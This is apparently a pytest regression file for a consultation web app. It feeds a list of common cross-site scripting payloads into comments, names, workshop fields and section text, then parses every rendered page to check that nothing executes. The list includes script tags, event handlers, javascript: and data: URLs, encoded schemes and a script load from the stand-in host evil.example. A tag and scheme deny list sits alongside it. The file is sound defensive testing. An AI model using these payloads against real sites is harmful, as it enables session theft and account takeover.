"""Cross-site scripting: the usual payloads, typed wherever people type, never run in a page.

Each payload goes in through the real forms (and the import service) as section text,
heading, comment, quote, proposed wording, answer, discussion message, workshop title and
notes, guest name, and the names of people and departments; then every page that shows them
is parsed and checked for anything a browser would execute.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from consult.extensions import db
from consult.models import Comment, ProposalMember, Role, Seat, Workshop
from consult.services import comments as comment_service
from tests.conftest import login

PAYLOADS = [
    "<script>alert('x1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('x2')>",
    "<svg onload=alert('x3')>",
    "<svg><script>alert('x4')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('x5')>",
    "<iframe src=\"javascript:alert('x6')\"></iframe>",
    "<a href=\"javascript:alert('x7')\">click</a>",
    "[click](javascript:alert('x8'))",
    "[click](JaVaScRiPt:alert('x9'))",
    "[click](&#106;avascript:alert('x10'))",
    "[click](java&#x09;script:alert('x11'))",
    "<a href=\"&#x6A;avascript:alert('x12')\">click</a>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert('x13'))",
    "[click](vbscript:msgbox('x14'))",
    "<div style=\"background:url(javascript:alert('x15'))\">x</div>",
    "<style>body{background:url(javascript:alert('x16'))}</style>",
    "\"><script>alert('x17')</script>",
    "' onmouseover='alert(1)' x='",
    "<object data=\"javascript:alert('x18')\"></object>",
    "<embed src=javascript:alert('x19')>",
    "<form action=javascript:alert('x20')><button>x</button></form>",
    "<details open ontoggle=alert('x21')>",
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'x22\')">',
    "| a |\n|---|\n| <img src=x onerror=alert('x23')> |",
    "<<script>script>alert('x24')<</script>/script>",
    "</textarea><script>alert('x25')</script>",
    "<a href=\"  javascript:alert('x26')\">x</a> [x]( javascript:alert('x27'))",
    "[x](<javascript:alert('x28')>)",
    "<input autofocus onfocus=alert('x29')>",
]

DANGEROUS_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "base", "meta", "link", "style",
    "frame", "frameset", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}
OUR_SCRIPTS = "/static/"


class _Checker(HTMLParser):
    def __init__(self, page_tags: dict[str, int]):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.counts: dict[str, int] = {}
        self.page_tags = page_tags

    def handle_starttag(self, tag, attrs):
        self.counts[tag] = self.counts.get(tag, 0) + 1
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith(OUR_SCRIPTS):
            self.problems.append(f"<script {attrs}>")
        elif tag in DANGEROUS_TAGS - {"script", "meta", "link"} and not _our_chart(tag, attributes):
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value:
                scheme = "".join(value.split()).lower().split(":", 1)[0]
                image = tag == "img" and value.startswith("data:image/")
                if ":" in value and scheme in {"javascript", "vbscript", "data"} and not image:
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and ("url(" in value or "expression" in value):
                self.problems.append(f"<{tag} style={value!r}>")


def _our_chart(tag: str, attributes: dict) -> bool:
    """The report's own server-drawn SVG charts (their text is escaped when drawn)."""
    return tag == "svg" and (attributes.get("aria-labelledby") or "").startswith("chart-")


def assert_nothing_executes(page: str, where: str) -> None:
    checker = _Checker({})
    checker.feed(page)
    assert not checker.problems, f"{where}: {checker.problems}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_never_executes(client, make_user, make_department, make_proposal, payload):
    # Names of a department and of its people.
    department = make_department(code="SXD", name=f"Sở {payload}")
    reviewer = make_user(Role.REVIEWER, department=department, full_name=f"Chuyên viên {payload}")
    lead = make_user(Role.LEAD, department=department, full_name=payload[:255])
    drafting = make_user(Role.REVIEWER, full_name=f"Biên tập {payload}", may_create_proposals=True)
    organizer = make_user(Role.REVIEWER, full_name=payload[:255])
    admin = make_user(Role.ADMIN)

    # Section text and heading: imported, and edited online in the next draft.
    sections = [(1, "I", f"Mở đầu {payload}", f"Đoạn văn.\n\n{payload}\n\nHết.")]
    proposal = make_proposal(code="DTTM-CT", sections=sections, chair=drafting)
    proposal.members.append(ProposalMember(user=organizer, seat=Seat.ORGANIZER))
    db.session.commit()
    draft = proposal.drafts[0]
    comment_service.invite_departments(draft, [department])
    db.session.commit()
    section = draft.sections[0]
    base = f"/proposals/{proposal.code}/drafts/1"

    login(client, drafting)
    assert client.post(f"/proposals/{proposal.code}/drafts/next").status_code == 302
    db.session.expire_all()
    next_section = proposal.drafts[1].sections[0]
    edited = client.post(
        f"/proposals/{proposal.code}/drafts/2/sections/{next_section.id}/edit",
        data={"number": "I", "heading": f"Sửa {payload}"[:500], "body": f"Sửa.\n\n{payload}"},
    )
    assert edited.status_code == 302

    # A comment with quote and proposed wording, then the official response.
    login(client, reviewer)
    response = client.post(
        f"{base}/comments",
        data={"section_id": section.id, "kind": "change", "body": payload,
              "quote": "Đoạn văn", "proposed_text": payload},
        content_type="multipart/form-data",
    )  # fmt: skip
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    login(client, lead)
    client.post(f"{base}/my-department/submit", data={"response-note": payload})
    comment = db.session.scalar(select(Comment))

    # The drafting team answers and discusses.
    login(client, drafting)
    answered = client.post(
        f"/comments/{comment.id}/triage",
        data={"status": "accepted", "answer": payload, "assignee_id": 0,
              "version": comment.version},
    )  # fmt: skip
    assert answered.status_code == 302, answered.get_data(as_text=True)[:300]
    client.post(f"/comments/{comment.id}/messages", data={"body": payload})

    # A workshop with the payload as title, notes, guest and comment from the floor.
    login(client, organizer)
    created = client.post(
        f"{base}/workshops/new",
        data={"title": payload[:255], "starts_at": "2030-05-15T08:00", "place": payload[:255],
              "notes": payload, "agenda": [section.id], "invited": [department.id]},
    )  # fmt: skip
    assert created.status_code == 302, created.get_data(as_text=True)[:300]
    workshop = db.session.scalar(select(Workshop))
    client.post(
        f"/workshops/{workshop.id}/guests",
        data={"guest_name": payload[:255], "guest_organization": payload[:255]},
    )

    pages = {
        drafting: [
            f"{base}", f"{base}/full", f"{base}/sections/{section.id}",
            f"/proposals/{proposal.code}/drafts/2", f"/proposals/{proposal.code}/compare",
            f"/comments/{comment.id}/triage", f"{base}/inbox", f"{base}/report",
            f"{base}/participation", f"{base}/dashboard", f"/comments/{comment.id}",
        ],
        reviewer: [
            f"{base}/my-department", f"/comments/{comment.id}", f"{base}/sections/{section.id}",
        ],
        organizer: [f"/workshops/{workshop.id}", f"{base}/workshops"],
        admin: [
            "/admin/users", "/admin/departments", "/admin/audit",
            f"/admin/users/{reviewer.id}/edit",
        ],
    }  # fmt: skip
    for user, paths in pages.items():
        login(client, user)
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, path
            assert_nothing_executes(response.get_data(as_text=True), path)


def test_the_checker_catches_what_it_should():
    """The check above would see a payload that got through."""
    for bad in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<svg></svg>",
        '<iframe src="/"></iframe>',
        '<p style="background:url(x)">',
    ):
        with pytest.raises(AssertionError):
            assert_nothing_executes(bad, "sample")
    assert_nothing_executes('<script src="/static/js/app.js"></script><p>&lt;script&gt;</p>', "ok")
